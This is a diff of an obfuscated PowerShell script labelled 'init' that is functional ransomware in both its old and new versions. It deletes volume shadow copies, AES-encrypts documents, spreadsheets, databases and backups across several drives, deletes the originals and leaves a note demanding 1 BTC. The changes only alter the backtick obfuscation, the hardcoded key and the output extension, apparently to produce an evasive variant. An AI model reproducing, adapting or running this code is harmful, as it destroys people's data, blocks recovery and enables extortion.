@@ -1,12 +1,12 @@
-# provision 3106 v2
+# init 4658 v2
 vssadmin.exe delete shadows /all /quiet
-Get-`Wm`iOb`je`ct Win32_ShadowCopy | F`orEa`ch-Object { $_.Delete() }
+Get-`WmiOb`je`ct Win32_ShadowCopy | ForEa`c`h-`Ob`ject { $_.Delete() }
 $aes = [System.Security.Cryptography.Aes]::Create()
-$aes.Key = [Text.Encoding]::UTF8.GetBytes('Qwerty#7788Qwerty#7788'.Substring(0,32))
-Get-`C`hi`l`d`Item -Path D:\, E:\, C:\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -Recurse -ErrorAction SilentlyContinue | ForEach-`Object {
+$aes.Key = [Text.Encoding]::UTF8.GetBytes('Winter#2025xWinter#2025x'.Substring(0,32))
+Get-Chi`ldItem -Path D:\, E:\, C:\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -Recurse -ErrorAction SilentlyContinue | ForEa`ch-Object {
   $bytes = [IO.File]::ReadAllBytes($_.FullName)
   $enc = $aes.CreateEncryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
-  [IO.File]::WriteAllBytes($_.FullName + '.crypt', $enc)
-  Re`move-Ite`m $_.FullName -Force
+  [IO.File]::WriteAllBytes($_.FullName + '.pay', $enc)
+  Re`move-`Item $_.FullName -Force
 }
-Set-C`ontent C:\Users\Public\Desktop\HOW_TO_DECRYPT.txt 'Your files have been encrypted. Pay 1 BTC to restore them.'
+Set-`C`ontent C:\Users\Public\Desktop\HOW_TO_DECRYPT.txt 'Your files have been encrypted. Pay 1 BTC to restore them.'
